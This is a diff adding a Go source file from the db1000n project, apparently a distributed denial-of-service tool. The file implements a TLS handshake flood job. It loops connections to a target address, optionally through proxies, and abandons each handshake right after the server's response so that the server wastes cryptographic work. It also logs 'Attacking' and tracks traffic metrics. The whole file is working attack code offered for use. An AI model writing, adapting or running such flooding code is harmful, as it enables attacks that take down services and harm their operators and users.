@@ -0,0 +1,182 @@
+// MIT License
+
+// Copyright (c) [2022] [Bohdan Ivashko (https://github.com/Arriven)]
+
+// Permission is hereby granted, free of charge, to any person obtaining a copy
+// of this software and associated documentation files (the "Software"), to deal
+// in the Software without restriction, including without limitation the rights
+// to use, copy, modify, merge, publish, distribute, sublicense, and/or sell
+// copies of the Software, and to permit persons to whom the Software is
+// furnished to do so, subject to the following conditions:
+
+// The above copyright notice and this permission notice shall be included in all
+// copies or substantial portions of the Software.
+
+// THE SOFTWARE IS PROVIDED "AS IS", WITHOUT WARRANTY OF ANY KIND, EXPRESS OR
+// IMPLIED, INCLUDING BUT NOT LIMITED TO THE WARRANTIES OF MERCHANTABILITY,
+// FITNESS FOR A PARTICULAR PURPOSE AND NONINFRINGEMENT. IN NO EVENT SHALL THE
+// AUTHORS OR COPYRIGHT HOLDERS BE LIABLE FOR ANY CLAIM, DAMAGES OR OTHER
+// LIABILITY, WHETHER IN AN ACTION OF CONTRACT, TORT OR OTHERWISE, ARISING FROM,
+// OUT OF OR IN CONNECTION WITH THE SOFTWARE OR THE USE OR OTHER DEALINGS IN THE
+// SOFTWARE.
+
+package job
+
+import (
+	"context"
+	"crypto/tls"
+	"errors"
+	"fmt"
+	"log"
+	"net"
+	"strings"
+	"time"
+
+	"github.com/google/uuid"
+	"go.uber.org/zap"
+
+	"github.com/Arriven/db1000n/src/core/http"
+	"github.com/Arriven/db1000n/src/job/config"
+	"github.com/Arriven/db1000n/src/utils"
+	"github.com/Arriven/db1000n/src/utils/metrics"
+	"github.com/Arriven/db1000n/src/utils/templates"
+)
+
+type tlsHandshakeJobConfig struct {
+	BasicJobConfig
+
+	Address           string
+	TLS               *http.TLSConfig `mapstructure:"tls"`
+	CompleteHandshake bool            `mapstructure:"complete_handshake"` // drop the connection as soon as server responds to ClientHello if false
+	ProxyURLs         string          `mapstructure:"proxy_urls"`
+	Timeout           *time.Duration
+}
+
+func tlsHandshakeJob(ctx context.Context, logger *zap.Logger, globalConfig *GlobalConfig, args config.Args) (data interface{}, err error) {
+	const defaultTimeout = 5 * time.Second
+
+	ctx, cancel := context.WithCancel(ctx)
+	defer cancel()
+
+	var jobConfig tlsHandshakeJobConfig
+	if err := ParseConfig(&jobConfig, args, *globalConfig); err != nil {
+		return nil, fmt.Errorf("error parsing job config: %w", err)
+	}
+
+	addr := strings.TrimSpace(templates.ParseAndExecute(logger, jobConfig.Address, ctx))
+
+	host, _, err := net.SplitHostPort(addr)
+	if err != nil {
+		return nil, fmt.Errorf("error parsing address %q: %w", addr, err)
+	}
+
+	if jobConfig.TLS == nil {
+		jobConfig.TLS = &http.TLSConfig{}
+	}
+
+	tlsConfig, err := jobConfig.TLS.Build()
+	if err != nil {
+		return nil, fmt.Errorf("error parsing tls config: %w", err)
+	}
+
+	if tlsConfig.ServerName == "" && net.ParseIP(host) == nil {
+		tlsConfig.ServerName = host
+	}
+
+	if globalConfig.ProxyURLs != "" {
+		jobConfig.ProxyURLs = globalConfig.ProxyURLs
+	}
+
+	timeout := utils.NonNilDurationOrDefault(jobConfig.Timeout, defaultTimeout)
+	proxyFunc := utils.GetProxyFunc(templates.ParseAndExecute(logger, jobConfig.ProxyURLs, ctx), timeout)
+	backoffController := utils.NewBackoffController(utils.NonNilBackoffConfigOrDefault(jobConfig.BackoffConfig, globalConfig.Backoff))
+
+	trafficMonitor := jobConfig.newTrafficMonitor()
+	go trafficMonitor.Update(ctx, time.Second)
+
+	processedTrafficMonitor := metrics.Default.NewWriter(metrics.ProcessedTraffic, uuid.NewString())
+	go processedTrafficMonitor.Update(ctx, time.Second)
+
+	if !isInEncryptedContext(ctx) {
+		log.Printf("Attacking %v", addr)
+	}
+
+	for jobConfig.Next(ctx) {
+		sent, err := tlsHandshake(proxyFunc, addr, tlsConfig, jobConfig.CompleteHandshake, timeout)
+		trafficMonitor.Add(sent)
+
+		if err != nil {
+			logger.Debug("tls handshake failed", zap.String("addr", addr), zap.Error(err))
+			metrics.IncTLSHandshake(addr, metrics.StatusFail)
+			utils.Sleep(ctx, backoffController.Increment().GetTimeout())
+
+			continue
+		}
+
+		processedTrafficMonitor.Add(sent)
+		metrics.IncTLSHandshake(addr, metrics.StatusSuccess)
+		backoffController.Reset()
+	}
+
+	return nil, nil
+}
+
+// tlsHandshake connects to the target and drops the connection right after the handshake (or the server response to ClientHello).
+// Returns the amount of bytes sent
+func tlsHandshake(proxyFunc utils.ProxyFunc, addr string, tlsConfig *tls.Config, complete bool, timeout time.Duration) (uint64, error) {
+	rawConn, err := proxyFunc("tcp", addr)
+	if err != nil {
+		return 0, err
+	}
+
+	conn := &handshakeConn{Conn: rawConn, abandon: !complete}
+	defer conn.Close()
+
+	if err = conn.SetDeadline(time.Now().Add(timeout)); err != nil {
+		return 0, err
+	}
+
+	err = tls.Client(conn, tlsConfig).Handshake()
+	if !complete && conn.responded {
+		// the server has already done its part of the work by the time it responds
+		return conn.sent, nil
+	}
+
+	return conn.sent, err
+}
+
+// handshakeConn counts sent bytes and optionally stops the handshake after the first response from the server
+type handshakeConn struct {
+	net.Conn
+
+	abandon   bool
+	responded bool
+	sent      uint64
+}
+
+var errHandshakeAbandoned = errors.New("handshake abandoned")
+
+func (c *handshakeConn) Write(b []byte) (int, error) {
+	// nothing is sent after ClientHello when abandoning the handshake
+	if c.responded {
+		return 0, errHandshakeAbandoned
+	}
+
+	n, err := c.Conn.Write(b)
+	c.sent += uint64(n)
+
+	return n, err
+}
+
+func (c *handshakeConn) Read(b []byte) (int, error) {
+	if c.responded {
+		return 0, errHandshakeAbandoned
+	}
+
+	n, err := c.Conn.Read(b)
+	if n > 0 && c.abandon {
+		c.responded = true
+	}
+
+	return n, err
+}